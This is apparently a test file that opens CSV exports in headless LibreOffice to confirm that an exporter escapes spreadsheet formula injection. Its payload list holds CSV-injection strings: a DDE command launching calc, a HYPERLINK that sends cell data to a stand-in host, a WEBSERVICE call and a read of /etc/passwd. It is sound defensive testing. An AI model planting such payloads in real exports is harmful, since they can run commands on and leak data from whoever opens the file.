/** What a spreadsheet makes of an export, asked of a real one: LibreOffice, without its window. */
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { csvLine } from '../../demo/collector/csv.js';
import { scratchFolder } from './scratch-folder.js';

const PROGRAM = '/usr/bin/localc';
if (!existsSync(PROGRAM)) {
  const missing = 'LibreOffice is not installed here (Debian: apt-get install libreoffice-calc).';
  if (process.env.CI_ENGINES === 'all') throw new Error(missing);
  console.warn(`${missing} What a spreadsheet makes of an export is not tested.`);
}

const FORMULAS = [
  '1+1',
  '1+1;',
  'SUM(A1:A9)',
  'A1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://ailleurs.example?x="&A1,"ici")',
  'WEBSERVICE("https://ailleurs.example")',
  "'file:///etc/passwd'#$passwd.A1",
];
const PAYLOADS = ['=', '+', '-', '@', ' ='].flatMap((sign) => FORMULAS.map((each) => sign + each));

/** Opens a CSV file in the spreadsheet: how many formulas it sees, and the texts of its cells. */
function opened(csv: string): { formulas: number; texts: readonly string[] } {
  const folder = scratchFolder();
  writeFileSync(join(folder, 'export.csv'), `\uFEFF${csv}`);
  const profile = `-env:UserInstallation=file://${folder}/profile`;
  // Commas, quotes, UTF-8: what its window asks of whoever opens a file.
  const flags = ['--headless', profile, '--infilter=CSV:44,34,76', '--convert-to', 'fods'];
  const files = ['--outdir', folder, join(folder, 'export.csv')];
  execFileSync(PROGRAM, [...flags, ...files], { stdio: 'ignore' });
  const written = readFileSync(join(folder, 'export.fods'), 'utf8');
  const sheet = written.slice(written.indexOf('<office:spreadsheet>'));
  return {
    formulas: sheet.match(/table:formula=/g)?.length ?? 0,
    texts: [...sheet.matchAll(/<text:p>(.*?)<\/text:p>/g)].map(([, text = '']) => read(text)),
  };
}

/** The text of a cell, its signs and runs of spaces undone. */
function read(xml: string): string {
  return xml
    .replaceAll(/<text:s[^>]*>/g, ' ')
    .replaceAll(/<[^>]*>/g, '')
    .replaceAll('&quot;', '"')
    .replaceAll('&apos;', "'")
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&');
}

test.each(existsSync(PROGRAM) ? [PROGRAM] : [])(
  '%s shows forty formulas in an export as text, and would have run them',
  () => {
    expect(PAYLOADS).toHaveLength(40);
    const { formulas, texts } = opened(PAYLOADS.map((each) => csvLine(['1', each])).join(''));
    expect(formulas).toBe(0);
    expect(texts).toEqual(PAYLOADS.flatMap((each) => ['1', `'${each}`]));

    const bare = PAYLOADS.map((each) => `1,"${each.replaceAll('"', '""')}"\r\n`).join('');
    expect(opened(bare).formulas).toBeGreaterThan(0);
  },
  120_000,
);
